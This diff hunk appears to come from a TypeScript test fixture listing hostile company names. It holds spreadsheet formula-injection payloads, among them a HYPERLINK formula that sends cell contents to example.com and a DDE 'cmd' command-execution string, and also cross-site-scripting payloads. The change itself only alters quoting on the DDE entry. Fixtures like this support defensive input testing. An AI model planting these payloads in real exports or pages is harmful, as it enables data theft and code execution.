@@ -9,7 +9,7 @@ const FORMS = ['有限公司', '股份有限公司', '集团有限公司', '（�
 export const HOSTILE_NAMES: readonly string[] = [
   '=HYPERLINK("http://example.com/?x="&A1,"点击")',
   '+SUM(1,1)',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
   '@SUM(A1:A9)',
   '<img src=x onerror=alert(1)>',
   '</script><script>alert(1)</script>',
